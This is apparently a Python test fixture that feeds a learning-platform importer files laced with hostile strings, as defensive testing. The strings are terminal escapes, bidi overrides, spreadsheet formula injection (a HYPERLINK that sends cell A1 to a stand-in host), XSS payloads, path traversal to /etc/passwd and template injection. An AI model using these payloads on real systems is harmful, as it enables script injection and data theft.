"""A class whose ids, names, answers and titles are not harmless anywhere."""

from __future__ import annotations

import json

from tests.doors.media import FORGED
from tests.lms.importers import tables

HOSTILE = {
    "colour": "\x1b[31mred\x1b]0;owned\x07",
    "eight bits": "\x9b31mred",
    "turned": "\u202eevil\u2066",
    "lines": f"first\n{FORGED} 100 points\r\n{FORGED}",
    "link to steal": '=HYPERLINK("http://x.example/?"&A1)',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "wide": "＝1+1",
    "hidden": "\u200b=1",
    "script": "<script>alert(1)</script>",
    "picture": '"><img src=x onerror=alert(1)>',
    "event": "' onmouseover='alert(1)' x='",
    "link": "[click](javascript:alert(1)) <javascript:alert(1)>",
    "markdown": "![p](http://x.example/p.png) `code` *em* ~~s~~ | cell |",
    "heading": "===",
    "list": "- 1. x",
    "up": "../../escape",
    "root": "/etc/passwd",
    "slashes": "a/b\\c:d",
    "device": "CON",
    "dot": ".hidden",
    "template": "{{ 7*7 }} {% raw %}",
    "half": "\ud800",
}
"""Texts by what they try."""

FILES = {key: text for key, text in HOSTILE.items() if "/" not in text and "\ud800" not in text}
"""Those that the name of a file can be."""


def table(header, rows) -> str:
    return tables.written([header, *rows], line_end="\n").decode("utf-8")


def problem(id_: str, title: str, **more: object) -> str:
    return json.dumps(
        {"id": id_, "title": title, "type": "numeric", "prompt": "How many?", "parameters": {"value": 7}} | more
    )


ESSAY = {"type": "essay", "parameters": {"rubric": [{"point": HOSTILE["script"], "points": 2, "ideas": ["scores"]}]}}
TITLE = f"{HOSTILE['link to steal']}{HOSTILE['script']}{HOSTILE['turned']}"


def files() -> dict[str, str | bytes]:
    """Return problems, submissions, a roster, reviews and gradebooks."""
    texts = {key: text for key, text in HOSTILE.items() if key != "half"}
    roster = ([text, f"{text} of {key}", f"{key.replace(' ', '')}@x.example", text] for key, text in texts.items())
    return {
        "problems/week-1/number.yaml": problem("number", TITLE),
        "problems/week-1/essay.yaml": problem("essay", HOSTILE["picture"], **ESSAY),
        "problems/week-1/assignment.yaml": json.dumps({"title": TITLE}),
        **{
            f"problems/{text}/{key.replace(' ', '-')}.yaml": problem(key.replace(" ", "-"), text)
            for key, text in FILES.items()
        },
        "roster.csv": table(["id", "name", "email", "section"], roster),
        **{
            f"submissions/week-1/{number}.json": json.dumps(
                {"student": text, "answers": {"number": text, "essay": f"My essay. {text}", f"unknown {text}": text}}
            )
            for number, text in enumerate(HOSTILE.values())
        },
        **{
            f"submissions/week-1/doc {text}.md": f"Answer (number): 8\n\nAnswer (essay): {text}\n"
            for text in FILES.values()
        },
        **{f"submissions/{text}/doc.yaml": f"answers: {{{key.replace(' ', '-')}: 7}}" for key, text in FILES.items()},
        f"reviews/{HOSTILE['colour']}.yaml": json.dumps(
            [{"student": text, "problem": "essay", "points": 1, "comment": text} for text in list(texts.values())[:5]]
        ),
    }
